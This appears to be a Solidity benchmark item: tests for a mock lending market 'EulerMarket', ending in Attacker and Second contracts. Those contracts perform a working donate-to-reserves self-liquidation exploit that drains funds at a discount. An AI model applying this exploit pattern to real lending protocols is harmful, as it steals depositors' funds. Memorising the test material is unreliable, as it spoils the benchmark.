// SPDX-License-Identifier: GPL-2.0-or-later
pragma solidity 0.8.19;

import "./EulerMarket.sol";

// assay-canary-6f39e73f-1733-456d-8b69-86acf7dbafcf

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Dai is IERC20 {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// Refuses to move.
contract Stuck is IERC20 {
    function transfer(address, uint256) external pure returns (bool) {
        return false;
    }

    function transferFrom(address, address, uint256) external pure returns (bool) {
        return false;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);
    address internal constant LIQ = address(0x119);
    uint256 internal constant M = 1_000_000e18;

    Dai internal dai;
    EulerMarket internal market;
    Attacker internal thief;

    function setUp() public {
        dai = new Dai();
        market = new EulerMarket(dai, 0.95e18);
        put(ANA, 60 * M);
        put(BEN, 40 * M);
        put(LIQ, 5 * M);
        thief = new Attacker(market, dai);
        dai.mint(address(thief), 30 * M);
    }

    function put(address who, uint256 amount) internal {
        dai.mint(who, amount);
        vm.startPrank(who);
        dai.approve(address(market), type(uint256).max);
        market.deposit(amount);
        vm.stopPrank();
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        market.borrow(10 * M);
        market.mint(100 * M);
        market.repay(4 * M);
        market.burn(50 * M);
        market.withdraw(1 * M);
        market.transfer(BEN, 1 * M);
        market.donateToReserves(2 * M);
        vm.stopPrank();
        require(market.balanceOf(ANA) == 106 * M && market.debtOf(ANA) == 56 * M && dai.balanceOf(ANA) == 7 * M, "an account");
        (uint256 balances, uint256 borrows, uint256 reserves) = market.totals();
        require(balances == 154 * M && borrows == 56 * M && reserves == 2 * M, "totals");
        market.withdrawReserves(address(0xFEE), 1 * M);
        require(dai.balanceOf(address(0xFEE)) == 1 * M, "reserves");

        market.setCollateralFactor(0.5e18);
        require(!market.isSolvent(ANA), "fewer count");
        vm.prank(LIQ);
        require(market.liquidate(ANA, 2 * M) == 2.5e6 * 1e18, "discount");
        require(market.debtOf(LIQ) == 2 * M && market.balanceOf(LIQ) == 7.5e6 * 1e18, "taken over");
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        vm.expectRevert("e/gov/unauthorized");
        market.setCollateralFactor(1);
        vm.expectRevert("e/gov/unauthorized");
        market.withdrawReserves(ANA, 0);
        vm.stopPrank();
        vm.expectRevert("e/gov/factor");
        market.setCollateralFactor(1e18 + 1);
        vm.expectRevert("e/gov/reserves");
        market.withdrawReserves(ANA, 1);
    }

    function test_RefusesDebtWithoutCollateral() public {
        vm.startPrank(ANA);
        vm.expectRevert("e/collateral-violation");
        market.borrow(58 * M);
        vm.expectRevert("e/collateral-violation");
        market.mint(1_141 * M);
        market.borrow(56 * M);
        vm.expectRevert("e/collateral-violation");
        market.withdraw(2 * M);
        vm.expectRevert("e/collateral-violation");
        market.transfer(BEN, 2 * M);
        vm.stopPrank();
    }

    function test_RefusesLiquidations() public {
        vm.prank(LIQ);
        vm.expectRevert("e/liq/violator-solvent");
        market.liquidate(ANA, 0);
        vm.prank(ANA);
        market.borrow(56 * M);
        market.setCollateralFactor(0.5e18);
        vm.prank(ANA);
        vm.expectRevert("e/liq/self-liquidation");
        market.liquidate(ANA, 1);
        vm.prank(LIQ);
        vm.expectRevert("e/collateral-violation");
        market.liquidate(ANA, 20 * M);
    }

    function test_RefusesBalances() public {
        vm.startPrank(ANA);
        vm.expectRevert("e/insufficient-balance");
        market.withdraw(60 * M + 1);
        vm.expectRevert("e/insufficient-balance");
        market.transfer(BEN, 60 * M + 1);
        vm.stopPrank();
    }

    function test_RefusesStuckTokens() public {
        EulerMarket other = new EulerMarket(new Stuck(), 0.95e18);
        vm.expectRevert("e/pull-failed");
        other.deposit(1);
        vm.expectRevert("e/push-failed");
        other.withdraw(0);
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = dai.balanceOf(address(thief));
        exploit();
        require(dai.balanceOf(address(thief)) >= before + 25 * M, "nothing gained");
    }

    function asset() public view returns (address) {
        return address(dai);
    }

    function target() public view returns (address) {
        return address(market);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Makes its own account insolvent, and takes it over with a second one.
contract Attacker {
    EulerMarket internal market;
    Dai internal dai;

    constructor(EulerMarket market_, Dai dai_) {
        market = market_;
        dai = dai_;
    }

    function run() external {
        uint256 m = 1_000_000e18;
        dai.approve(address(market), type(uint256).max);
        market.deposit(20 * m);
        market.mint(200 * m);
        market.repay(10 * m);
        market.mint(200 * m);
        market.donateToReserves(25 * m);
        Second second = new Second(market, dai);
        second.run(address(this), 316 * m);
    }
}

contract Second {
    EulerMarket internal market;
    Dai internal dai;

    constructor(EulerMarket market_, Dai dai_) {
        market = market_;
        dai = dai_;
    }

    function run(address violator, uint256 debt) external {
        market.liquidate(violator, debt);
        uint256 keep = (debt * 1e18) / 0.95e18 + 1;
        market.withdraw(market.balanceOf(address(this)) - keep);
        dai.transfer(msg.sender, dai.balanceOf(address(this)));
    }
}
